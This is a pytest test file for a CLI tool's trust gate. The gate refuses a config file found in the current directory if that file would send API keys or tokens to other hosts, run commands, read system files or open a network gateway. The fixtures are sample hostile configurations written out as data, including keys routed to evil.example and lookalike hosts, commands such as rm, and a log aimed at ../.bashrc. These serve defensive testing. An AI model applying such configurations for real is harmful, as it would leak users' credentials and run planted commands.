"""A configuration that lay in the current directory gets no key, runs no command, reads no other file."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from llmfail.core.errors import UsageError
from llmfail.core.vendors import OWNER_HOSTS
from llmfail.settings import load
from llmfail.settings.reading.find import ConfigSource, Origin
from llmfail.settings.reading.load import examine
from llmfail.settings.trust.trust import accept

KEYS = dict.fromkeys(OWNER_HOSTS, "hunter2") | {"SECRET": "hunter2", "GOOGLE_CLOUD_PROJECT": "hunter2"}


def provider(entry: str) -> str:
    return f"providers: {{p: {{{entry}}}}}\n"


def key_at(base_url: str, variable: str = "ANTHROPIC_API_KEY", api: str = "anthropic") -> str:
    return provider(f"api: {api}, base_url: '{base_url}', api_key: '${{{variable}}}'")


REFUSED = {
    "key to another host": key_at("https://evil.example"),
    "key to loopback": key_at("http://127.0.0.1:8080"),
    "key to localhost over https": key_at("https://localhost"),
    "key to its host without TLS": key_at("http://api.anthropic.com"),
    "key to its host at another port": key_at("https://api.anthropic.com:8443"),
    "key to a host that begins alike": key_at("https://api.anthropic.com.evil.example"),
    "key to a host that ends alike": key_at("https://xapi.anthropic.com"),
    "key to its host with a dot": key_at("https://api.anthropic.com."),
    "key to another vendor": key_at("https://api.openai.com/v1", api="openai"),
    "key to another vendor by default": provider("api: openai, api_key: '${ANTHROPIC_API_KEY}'"),
    "key that nobody owns": key_at("https://api.anthropic.com", "SECRET"),
    "key that nobody owns to loopback": key_at("http://127.0.0.1:8080", "SECRET"),
    "project of another kind of provider": provider("api: openai, project: '${GOOGLE_CLOUD_PROJECT}'"),
    "key with a default": key_at("https://evil.example", "ANTHROPIC_API_KEY:-x"),
    "key among letters": provider("api: openai, base_url: 'https://e.example', api_key: 'x${SECRET}y'"),
    "key and another": provider("api: anthropic, api_key: '${ANTHROPIC_API_KEY}${SECRET}'"),
    "key as project": provider("api: vertex, project: '${SECRET}'"),
    "project to another host": provider(
        "api: vertex, base_url: 'https://evil.example', project: '${GOOGLE_CLOUD_PROJECT}'"
    ),
    "token from a variable": provider("api: vertex, project: p, token: '${SECRET}'"),
    "Google token to another host": provider("api: vertex, project: p, base_url: 'https://evil.example'"),
    "Google token to a bucket": provider(
        "api: vertex, project: p, base_url: 'https://storage.googleapis.com'"
    ),
    "Google token to a host that ends alike": provider(
        "api: vertex, project: p, base_url: 'https://evil.example-aiplatform.googleapis.com'"
    ),
    "Google token without TLS": provider(
        "api: vertex, project: p, base_url: 'http://aiplatform.googleapis.com'"
    ),
    "variable in the URL": provider("api: openai, api_key: none, base_url: 'https://evil.example/${SECRET}'"),
    "variable in a system text": "features: {x: {system: 'a ${SECRET}'}}",
    "file as a template": "templates: {t: '@/etc/hostname'}",
    "file as the template of a feature": "features: {x: {template: '@/etc/hostname'}}",
    "variable in a template": "templates: {t: 'a ${SECRET}'}",
    "variable in the store": "store: redis://${SECRET}/0",
    "a server for the state": "store: redis://evil.example/0",
    "a server for answers": "cache: {store: redis://evil.example/0}",
    "a server for the queue": "queue: {store: redis://evil.example/0}",
    "variable in a fixed text": "features: {x: {degrade: [text: '${SECRET}']}}",
    "variable in a list": provider("api: openai, fallbacks: ['${SECRET}']"),
    "variable behind an escape": "templates: {t: '$${A} ${SECRET}'}",
    "variable behind an alias": "templates: {a: &x '${SECRET}'}\nfeatures: {x: {system: *x}}",
    "variable behind a merge": (
        "providers: {a: &x {api: anthropic, api_key: '${ANTHROPIC_API_KEY}'}, "
        "b: {<<: *x, base_url: 'https://evil.example'}}"
    ),
    "command": "features: {x: {degrade: [command: [id]]}}",
    "command behind an alias": "features: {x: {degrade: &d [{command: [id]}]}, y: {degrade: *d}}",
    "command for alerts": "alerts: {command: [id]}",
    "webhook": "alerts: {webhooks: [{url: 'https://evil.example/x'}]}",
    "a gateway for other machines": "serve: {listen: '0.0.0.0:4000'}",
    "a gateway for a page": "serve: {origins: ['https://evil.example']}",
    "a gateway under another name": "serve: {hosts: [evil.example]}",
    "a gateway for whoever has this key": "serve: {keys: [{name: a, key: its-own}]}",
    "a gateway that they operate": "serve: {admin_token: its-own}",
    "a gateway that writes a file": "serve: {log: ../.bashrc}",
    "schema elsewhere": "features: {x: {expect: {schema: ../keys.json}}}",
    "schema by its whole path": "features: {x: {expect: {schema: /etc/hosts.json}}}",
    "schema behind a link": "features: {x: {expect: {schema: link.json}}}",
}

ACCEPTED = {
    "nothing at all": "version: 1",
    "keys that stay with their owners": "providers:\n"
    + "".join(
        f"  {name.lower()}: {{api: openai, base_url: 'https://{host}/v1', api_key: '${{{name}}}'}}\n"
        for name, host in OWNER_HOSTS.items()
    ),
    "defaults of the vendors": "providers: {a: {api: anthropic, api_key: '${ANTHROPIC_API_KEY}'}, "
    "o: {api: openai, api_key: '${OPENAI_API_KEY:-}'}, g: {api: gemini, api_key: '${GEMINI_API_KEY}'}}",
    "owner with its port": key_at("https://API.anthropic.com:443/"),
    "vertex": provider("api: vertex, project: '${GOOGLE_CLOUD_PROJECT:-}', location: europe-west4"),
    "vertex in a region": provider(
        "api: vertex, project: p, base_url: 'https://us-east5-aiplatform.googleapis.com'"
    ),
    "no key to loopback": provider("api: openai, base_url: 'http://127.0.0.1:1/v1', api_key: none"),
    "a key of its own": provider("api: openai, base_url: 'https://evil.example', api_key: its-own"),
    "an escape": "templates: {t: '$${name}'}",
    "a gateway for this machine": "serve: {listen: '127.0.0.1:1', workers: 2, models: {a: default}, "
    "admin_token: '${LLMFAIL_ADMIN_TOKEN:-}'}",
    "a schema inside": "features: {x: {expect: {schema: ./inside.json}}}",
}


@pytest.fixture
def found(home, state):
    """Load a text as ./llmfail.yaml."""
    (home / "inside.json").write_text("{}")
    (home / "link.json").symlink_to(home.parent / "keys.json")
    (home.parent / "keys.json").write_text('{"key": "hunter2"}')

    def found(text, **environ):
        (home / "llmfail.yaml").write_text(text)
        return load(None, KEYS | environ, home, state)

    return found


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_a_file_that_needs_trust_is_refused_until_it_has_it(found, home, state, text):
    with pytest.raises(UsageError, match="llmfail config trust") as caught:
        found(text)
    assert caught.value.exit_code == 2
    assert "hunter2" not in str(caught.value)
    assert len(str(caught.value).splitlines()) == 2


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_the_same_file_is_fine_when_it_was_named(found, home, state, text):
    path = home / "llmfail.yaml"
    path.write_text(text)
    for config, environ in ((path, {}), (None, {"LLMFAIL_CONFIG": str(path)})):
        try:
            load(config, KEYS | environ, home, state)
        except UsageError as error:
            assert "config trust" not in str(error)  # noqa: PT017 - some are invalid for another reason


@pytest.mark.parametrize("text", ACCEPTED.values(), ids=ACCEPTED)
def test_a_file_that_does_no_harm_needs_no_trust(found, text):
    assert found(text).source.origin is Origin.DIRECTORY


def test_the_refusal_says_what_would_happen_where(found):
    with pytest.raises(UsageError) as caught:
        found(key_at("https://evil.example") + "features: {x: {degrade: [command: [id]]}}")
    first, second = str(caught.value).splitlines()
    assert "found in the current directory" in first
    assert "would send ANTHROPIC_API_KEY to evil.example" in first
    assert "providers.p.api_key" in first
    assert "1 more" in first
    assert "config trust" in second


KEY = "would send ANTHROPIC_API_KEY to "
GOOGLE = "would send a Google token to "
WHY = {
    "another host": (
        key_at("https://evil.example/v1"),
        f"{KEY}evil.example, which is not its owner's host (api.anthropic.com)",
    ),
    "another host at a port": (key_at("http://127.0.0.1:8080"), f"{KEY}127.0.0.1:8080, which is not its"),
    "another port": (
        key_at("https://api.anthropic.com:8443"),
        f"{KEY}api.anthropic.com:8443, whose port is not the usual 443",
    ),
    "no TLS": (key_at("http://api.anthropic.com"), f"{KEY}http://api.anthropic.com, which is not https"),
    "no TLS at a port": (
        key_at("http://api.anthropic.com:443"),
        "http://api.anthropic.com:443, which is not",
    ),
    "nobody's": (
        key_at("https://api.anthropic.com", "SECRET"),
        "would send SECRET to api.anthropic.com, although no host is known as its owner",
    ),
    "another vendor by default": (
        provider("api: openai, api_key: '${ANTHROPIC_API_KEY}'"),
        f"{KEY}api.openai.com, which is not its owner's host",
    ),
    "no URL": (
        provider("api: openai, api_key: '${OPENAI_API_KEY}', base_url: '${X}'"),
        "would send OPENAI_API_KEY to a host that is not its owner's",
    ),
    "token to another host": (
        provider("api: vertex, project: p, base_url: 'https://evil.example:1'"),
        f"{GOOGLE}evil.example:1, which is none of Google's hosts for Vertex",
    ),
    "token at another port": (
        provider("api: vertex, project: p, base_url: 'https://aiplatform.googleapis.com:1'"),
        f"{GOOGLE}aiplatform.googleapis.com:1, whose port is not the usual 443",
    ),
    "token of a variable": (
        provider("api: vertex, project: p, token: '${SECRET}'"),
        "would send SECRET to aiplatform.googleapis.com, although no host is known as its owner",
    ),
}


@pytest.mark.parametrize(("text", "said"), WHY.values(), ids=WHY)
def test_the_refusal_says_which_port_and_what_is_wrong_with_it(home, text, said):
    (home / "llmfail.yaml").write_text(text)
    found = [finding.message for finding in examine(None, KEYS, home).trust_findings]
    assert any(said in message for message in found), found


COMMAND = "features: {x: {degrade: [command: [id]]}}\n"


def test_i3_trust_is_kept_by_every_edit_of_what_needs_none(found, home, state):
    path = home / "llmfail.yaml"
    path.write_text(COMMAND)
    accept(path, COMMAND, state)
    for edit in ("", "# a comment", "timezone: Europe/Berlin", "templates: {t: hi}", "budgets: []"):
        assert found(COMMAND + edit).find_feature("x").degrade
        assert found(COMMAND + edit).source.is_trusted, "on the short way too"
    moved = "features: {y: {degrade: [text: no, command: [id]]}}"
    assert found(moved.replace("text: no, ", "cached, ")).find_feature("y").degrade


CHANGES = {
    "another command": (COMMAND.replace("[id]", "[rm]"), "would run a command"),
    "another argument": (COMMAND.replace("[id]", "[id, -u]"), "would run a command"),
    "one more command": (COMMAND.replace("[command: [id]]", "[command: [id], command: [rm]]"), "degrade[1]"),
    "a key": (COMMAND + key_at("https://evil.example"), "would send ANTHROPIC_API_KEY to evil.example"),
}


@pytest.mark.parametrize(("text", "named"), CHANGES.values(), ids=CHANGES)
def test_i3_a_change_of_what_needs_trust_is_named(found, home, state, text, named):
    accept(home / "llmfail.yaml", COMMAND, state)
    with pytest.raises(UsageError, match="config trust") as refused:
        found(text)
    assert "has changed since it was trusted: it would" in str(refused.value)
    assert named in str(refused.value)
    assert found(COMMAND).find_feature("x").degrade, "and again, when it is what it was"


def test_i3_a_variable_that_was_trusted_goes_to_no_other_host(found, home, state):
    text = key_at("https://one.example/v1")
    accept(home / "llmfail.yaml", text, state)
    assert found(text).source.is_trusted
    for other in ("https://two.example/v1", "https://one.example/v2", "http://one.example/v1"):
        with pytest.raises(UsageError, match="changed since it was trusted"):
            found(key_at(other))


def test_i3_a_variable_in_a_prompt_goes_to_no_server_that_came_later(found, home, state):
    text = "templates: {t: 'a ${SECRET}'}\nproviders: {p: {api: openai, api_key: none, base_url: '%s'}}"
    accept(home / "llmfail.yaml", text % "http://one.example", state)
    assert found(text % "http://one.example").source.is_trusted
    with pytest.raises(UsageError, match="changed since it was trusted"):
        found(text % "http://two.example")


PROGRAMS = {
    "the program": "[./s.sh]",
    "an argument": "[sh, s.sh, x]",
    "the value of an option": "[python, --file=s.sh]",
    "its whole path": "[HERE/s.sh]",
    "another way to write it": "[../here/s.sh]",
}


@pytest.mark.parametrize("argv", PROGRAMS.values(), ids=PROGRAMS)
def test_d7_trust_covers_the_program_that_a_command_names(found, home, state, argv):
    text = f"features: {{x: {{degrade: [command: {argv.replace('HERE', str(home))}]}}}}\n"
    program = home / "s.sh"
    program.write_text("echo one")
    accept(home / "llmfail.yaml", text, state)
    assert found(text).source.is_trusted
    program.write_text("echo two")
    with pytest.raises(UsageError, match=r"changed since it was trusted: .*s\.sh; it would run"):
        found(text)
    program.write_text("echo one")
    assert found(text).source.is_trusted


def test_d7_a_program_that_comes_after_trust_was_given_needs_it_too(found, home, state):
    text = "features: {x: {degrade: [command: [./s.sh]]}}\n"
    accept(home / "llmfail.yaml", text, state)
    assert found(text).source.is_trusted
    (home / "s.sh").write_text("echo planted")
    with pytest.raises(UsageError, match=r"changed since it was trusted: \./s\.sh"):
        found(text)


def test_d7_a_large_file_counts_by_its_size_and_its_last_change(found, home, state):
    text = "features: {x: {degrade: [command: [run, ./model.bin]]}}\n"
    with (home / "model.bin").open("wb") as file:
        file.truncate(20_000_000)
    accept(home / "llmfail.yaml", text, state)
    assert found(text).source.is_trusted
    os.utime(home / "model.bin", (1, 1))
    with pytest.raises(UsageError, match="changed since it was trusted"):
        found(text)


def test_trust_that_version_0_1_has_written_is_read_and_written_anew(found, home, state):
    record = state / "trusted.json"
    path = home / "llmfail.yaml"
    record.write_text(json.dumps({str(path): hashlib.sha256(COMMAND.encode()).hexdigest()}))
    assert found(COMMAND).source.is_trusted
    assert isinstance(json.loads(record.read_text())[str(path)], dict)
    assert found(COMMAND + "# edited").source.is_trusted


def test_trust_of_another_text_that_version_0_1_has_written_is_none(found, home, state):
    record = {str(home / "llmfail.yaml"): hashlib.sha256(b"another text").hexdigest()}
    (state / "trusted.json").write_text(json.dumps(record))
    with pytest.raises(UsageError, match="changed since it was trusted"):
        found(COMMAND)


NO_SCHEMAS = {
    "a secret": {"client_secret": "LOCALSECRET"},
    "a secret beside keywords": {"type": "object", "client_secret": "LOCALSECRET"},
    "a secret in a schema": {"type": "object", "properties": {"a": {"token": "LOCALSECRET"}}},
    "a secret behind a list": {"anyOf": [{"type": "string"}, {"token": "LOCALSECRET"}]},
    "a package": {"name": "x", "version": "1", "dependencies": {}},
}
SCHEMAS = {
    "nothing": {},
    "keywords": {
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "type": "object",
        "properties": {"token": {"type": "string"}},
        "x-y": 1,
    },
    "all kinds": {
        "allOf": [{"not": {"enum": ["a"]}}],
        "$defs": {"a": True},
        "prefixItems": [{"const": {"k": 1}}],
    },
}


@pytest.mark.parametrize("content", NO_SCHEMAS.values(), ids=NO_SCHEMAS)
def test_d5_a_json_file_that_is_no_schema_is_not_sent_without_trust(found, home, state, content):
    text = "features: {default: {expect: {schema: secrets.json}}}"
    (home / "secrets.json").write_text(json.dumps(content))
    with pytest.raises(UsageError, match=r"would send secrets\.json, which is no JSON Schema") as refused:
        found(text)
    assert "LOCALSECRET" not in str(refused.value)
    accept(home / "llmfail.yaml", text, state)
    assert found(text).source.is_trusted


@pytest.mark.parametrize("content", SCHEMAS.values(), ids=SCHEMAS)
def test_d5_a_schema_needs_no_trust(found, home, content):
    (home / "inside.json").write_text(json.dumps(content))
    assert found("features: {default: {expect: {schema: inside.json}}}")


def test_trust_is_for_one_path(found, home, state, tmp_path):
    elsewhere = tmp_path / "elsewhere.yaml"
    elsewhere.write_text(COMMAND)
    accept(elsewhere, COMMAND, state)
    with pytest.raises(UsageError, match="config trust"):
        found(COMMAND)


def test_trust_does_not_follow_a_link_to_where_its_commands_are_others(home, state, tmp_path):
    (tmp_path / "real").mkdir()
    real = tmp_path / "real" / "llmfail.yaml"
    real.write_text(COMMAND)
    (home / "llmfail.yaml").symlink_to(real)
    accept(real, COMMAND, state)
    assert load(None, {}, real.parent, state).find_feature("x").degrade
    with pytest.raises(UsageError, match="would run a command"):
        load(None, {}, home, state)


def test_several_files_can_be_trusted_and_the_record_is_private(home, state):
    for name in ("a.yaml", "b.yaml"):
        accept(home / name, COMMAND, state)
    record = state / "trusted.json"
    assert set(json.loads(record.read_text())) == {str(home / "a.yaml"), str(home / "b.yaml")}
    assert record.stat().st_mode & 0o777 == 0o600
    assert [each.name for each in state.iterdir()] == ["trusted.json"]


@pytest.mark.parametrize("damage", [b"", b"[]", b"{", b"\xff", b"null", b"true"])
def test_a_damaged_record_is_no_consent_and_can_be_written_again(found, home, state, damage):
    (state / "trusted.json").write_bytes(damage)
    with pytest.raises(UsageError, match="config trust"):
        found(COMMAND)
    accept(home / "llmfail.yaml", COMMAND, state)
    assert found(COMMAND)


@pytest.mark.parametrize("name", ["file", "n" * 300])
def test_consent_that_cannot_be_kept_is_an_error(home, name):
    (home / "file").touch()
    with pytest.raises(UsageError, match="cannot write"):
        accept(home / "llmfail.yaml", COMMAND, home / name)


def test_where_no_state_can_be_kept_nothing_is_trusted_and_the_rest_works(home):
    (home / "llmfail.yaml").write_text(COMMAND)
    nowhere = home / ("n" * 300)
    with pytest.raises(UsageError, match="config trust"):
        load(None, {}, home, nowhere)
    assert load(home / "llmfail.yaml", {}, home, nowhere).find_feature("x").degrade


OBSTACLES = {
    "pipe": os.mkfifo,
    "endless": lambda path: path.symlink_to("/dev/zero"),
    "link": lambda path: path.symlink_to(path.parent.parent / "planted.json"),
    "directory": Path.mkdir,
}


@pytest.mark.parametrize("plant", OBSTACLES.values(), ids=OBSTACLES)
def test_a_record_that_is_no_plain_file_is_no_consent(home, state, plant):
    planted = home / "llmfail.yaml"
    planted.write_text(COMMAND)
    accept(planted, COMMAND, state)
    (state / "trusted.json").rename(state.parent / "planted.json")
    plant(state / "trusted.json")
    with pytest.raises(UsageError, match="config trust"):
        load(None, {}, home, state)


def test_what_the_user_overrides_is_the_users_own(found):
    text = provider("api: anthropic, api_key: '${ANTHROPIC_API_KEY}'")
    settings = found(text, LLMFAIL_PROVIDERS__P__BASE_URL="http://localhost:9", LLMFAIL_CACHE__TTL="1")
    assert settings.providers["p"].base_url == "http://localhost:9"


def test_the_file_is_judged_as_it_is_written_not_as_it_is_overridden(found):
    with pytest.raises(UsageError, match="config trust"):
        found(key_at("https://evil.example"), LLMFAIL_PROVIDERS__P__API_KEY="none")


def test_a_key_that_the_user_sets_by_override_does_not_go_where_the_file_says(found):
    text = provider("api: anthropic, base_url: 'https://evil.example', api_key: none")
    with pytest.raises(UsageError, match=r"a key of yours to evil\.example"):
        found(text, LLMFAIL_PROVIDERS__P__API_KEY="hunter2")
    fine = provider("api: anthropic, base_url: 'https://api.anthropic.com'")
    assert found(fine, LLMFAIL_PROVIDERS__P__API_KEY="hunter2").providers["p"].api_key


def test_a_key_and_a_host_that_are_both_the_users_need_no_trust(found):
    text = provider("api: anthropic, base_url: 'https://evil.example', api_key: none")
    mine = {
        "LLMFAIL_PROVIDERS__P__API_KEY": "hunter2",
        "LLMFAIL_PROVIDERS__P__BASE_URL": "https://mine.example",
    }
    assert found(text, **mine).providers["p"].base_url == "https://mine.example"


def test_a_file_that_was_remembered_when_it_was_named_needs_trust_when_it_is_found(home, state):
    path = home / "llmfail.yaml"
    path.write_text(COMMAND)
    load(path, {}, home, state)
    assert list(state.glob("settings-*.json"))
    with pytest.raises(UsageError, match="config trust"):
        load(None, {}, home, state)


def test_a_file_of_the_user_or_of_the_package_needs_no_trust(home, state):
    from llmfail.settings.trust.trust_rules import check_trust_rules

    tree = {"features": {"x": {"degrade": [{"command": ["id"]}]}}}
    for origin in Origin:
        found = check_trust_rules(ConfigSource(path=Path("x"), origin=origin), tree, ())
        assert bool(found) == (origin is Origin.DIRECTORY)
